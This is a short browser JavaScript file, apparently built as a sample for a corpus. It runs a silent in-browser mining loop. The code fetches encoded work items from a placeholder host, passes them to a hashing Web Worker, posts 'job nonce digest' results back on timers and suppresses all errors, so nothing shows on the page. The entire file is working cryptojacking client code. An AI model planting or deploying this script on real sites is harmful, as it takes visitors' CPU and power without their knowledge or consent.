/* Own design (corpus): no WebSocket. GET a base64-wrapped JSON work item, hash in a worker,
   POST space-separated "job nonce digest" lines; poll again every few seconds. */
(function () {
  var API = "%%HTTP:own-poll%%/api/v2", W = "w-4c1d";
  var worker = new Worker("/set-aside/own-http-poll/assets/calc.js"), found = [];
  worker.onmessage = function (e) { found.push(e.data.join(" ")); };
  function next() {
    fetch(API + "/next?w=" + W, { cache: "no-store" })
      .then(function (r) { return r.text(); })
      .then(function (t) { worker.postMessage(JSON.parse(atob(t))); })
      .catch(function () {})
      .then(function () { setTimeout(next, 3500); });
  }
  function report() {
    if (found.length) {
      var body = found.splice(0).join("\n") + "\n";
      fetch(API + "/report?w=" + W, { method: "POST", body: body, headers: { "Content-Type": "text/plain" } }).catch(function () {});
    }
    setTimeout(report, 1500);
  }
  next();
  setTimeout(report, 1500);
})();
